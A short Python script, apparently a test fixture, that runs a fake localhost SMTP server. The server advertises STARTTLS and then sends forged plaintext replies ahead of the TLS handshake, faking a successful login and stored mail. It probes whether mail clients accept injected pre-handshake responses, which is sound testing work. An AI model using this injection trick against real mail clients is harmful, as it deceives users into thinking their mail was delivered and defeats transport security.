"""A server of the right name that sends all its answers in the open, behind its word on STARTTLS, and then nothing.

usage: inject.py PORT CERTIFICATE KEY: whoever believes what it read in the open thinks that its mail was stored.
"""
import socket
import ssl
import sys

port, certificate, key = sys.argv[1:]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(certificate, key)
FORGED = [
    b"220 go",
    b"250-localhost",
    b"250 AUTH PLAIN LOGIN",
    b"235 welcome",
    b"250 ok",
    b"250 ok",
    b"250 ok",
    b"250 ok",
    b"354 go on",
    b"250 stored by nobody",
    b"",
]
listener = socket.create_server(("127.0.0.1", int(port)))
print("ready", flush=True)
while True:
    line, _ = listener.accept()
    try:
        line.sendall(b"220 localhost ESMTP\r\n")
        line.recv(1024)
        line.sendall(b"250-localhost\r\n250 STARTTLS\r\n")
        line.recv(1024)
        line.sendall(b"\r\n".join(FORGED))
        private = context.wrap_socket(line, server_side=True)
        while private.recv(65536):
            pass
    except OSError:
        pass
    line.close()
